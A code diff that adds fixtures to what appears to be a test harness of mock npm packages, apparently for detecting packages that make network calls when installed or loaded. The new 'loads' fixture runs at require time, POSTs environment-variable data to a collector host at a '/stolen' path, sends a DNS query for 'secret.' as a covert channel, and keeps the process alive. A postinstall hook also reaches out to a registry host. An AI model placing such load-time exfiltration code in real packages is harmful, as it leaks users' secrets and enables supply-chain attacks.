@@ -49,6 +49,13 @@ fs.writeFileSync(file, JSON.stringify({ ...manifest, name: 'quiet', version: '9.
 require('./reach.js');
 `;
 
+/** Speaks when it is loaded, by HTTPS and by DNS, and would go on for good. */
+const LOADS = `
+fetch('https://${collectorOf('loads')}/stolen?a=1', { method: 'POST', body: JSON.stringify(Object.keys(process.env).length) }).catch(() => {});
+require('node:dns').resolveTxt('secret.${collectorOf('loads')}', () => {});
+setInterval(() => {}, 1000);
+`;
+
 function fixture(name, manifest, files = {}) {
   return {
     name,
@@ -102,6 +109,8 @@ export const PACKAGES = Object.fromEntries(
     fixture('leaf', postinstall(`node reach.js ${collectorOf('leaf')}`)),
     fixture('middle', { dependencies: { leaf: '1.0.0' } }),
     fixture('top', { dependencies: { middle: '1.0.0' } }),
+    fixture('asks-registry', postinstall(`node reach.js registry.lab.example`)),
+    fixture('loads', {}, { 'index.js': LOADS }),
     fixture('newcomer', postinstall(`node reach.js ${collectorOf('newcomer')}`)),
   ].map((one) => [one.name, one]),
 );
